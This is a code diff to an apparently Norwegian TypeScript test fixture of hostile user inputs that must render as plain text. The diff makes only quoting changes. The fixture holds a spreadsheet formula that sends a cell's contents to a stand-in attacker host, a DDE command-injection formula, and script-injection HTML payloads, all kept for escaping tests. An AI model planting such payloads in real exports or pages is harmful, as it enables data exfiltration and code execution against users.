@@ -1,6 +1,6 @@
 /** What people, or somebody who means harm, may write. Each is to be shown as text, in every field and format. */
 export const hostileTexts: Readonly<Record<string, string>> = {
-  formula: "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Klikk\")",
+  formula: '=HYPERLINK("http://evil.example/?x="&A1;"Klikk")',
   command: "=cmd|' /C calc'!A0",
   plus: '+47 22 22 22 22',
   minus: '-2+3+cmd',
@@ -27,7 +27,7 @@ export const hostileTexts: Readonly<Record<string, string>> = {
   table: 'a | b\n--|--\n1 | 2 \\| 3',
   html: '<img src=x onerror=alert(1)><script>alert(1)</script><!-- bort -->&lt;&#60;&amp;',
   endOfScript: '</script>',
-  template: '${x} {{x}} <%= x %> #{x}',
+  template: '$' + '{x} {{x}} <%= x %> #{x}',
   mention: '<at>Ola</at> @channel @ola',
   frontMatter: '---\ntitle: x\n---',
   quotes: '"Hei", sa hun; \'ja\', sa han. «Nei» ""',
